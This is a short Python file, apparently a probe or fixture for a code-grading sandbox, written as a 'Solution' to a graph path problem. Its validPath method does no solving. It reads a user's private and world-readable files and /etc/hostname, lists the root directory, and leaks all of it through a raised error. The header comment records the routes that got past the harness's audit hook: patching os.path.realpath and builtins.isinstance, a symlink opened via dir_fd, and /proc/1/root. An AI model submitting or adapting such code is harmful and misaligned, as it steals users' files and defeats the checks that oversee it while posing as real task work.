# files: the user's files (a 0600 one and a world-readable one), by the
# routes that got past the audit hook: plain open once disarmed,
# os.path.realpath replaced, os.open with a dir_fd and a symbolic link in
# the working directory, /proc/1/root, builtins.isinstance patched (last:
# the harness's own error path breaks on it, so the list ends on stderr)
import builtins


def grab(path):
    got = []
    for how in ("open", "realpath", "dirfd", "procroot", "isinstance"):
        try:
            if how == "open":
                got.append(open(path).read())
            elif how == "realpath":
                os.path.realpath = lambda p, *a, **k: os.getcwd()
                got.append(open(path).read())
            elif how == "isinstance":
                builtins.isinstance = lambda o, t: True
                got.append(open(path).read())
            elif how == "dirfd":
                try:
                    os.symlink(path, "link")
                except FileExistsError:
                    pass
                fd = os.open(".", os.O_RDONLY)
                got.append(os.read(os.open("link", os.O_RDONLY, dir_fd=fd), 200).decode())
            else:
                got.append(open("/proc/1/root" + path).read())
        except BaseException as e:
            got.append("%s:%s" % (how, type(e).__name__))
    return got


class Solution:
    def validPath(self, n, edges, source, destination):
        raise RuntimeError(repr(grab("@DIR@/private") + grab("@DIR@/world") +
                                grab("/etc/hostname") + [os.listdir("/")]))
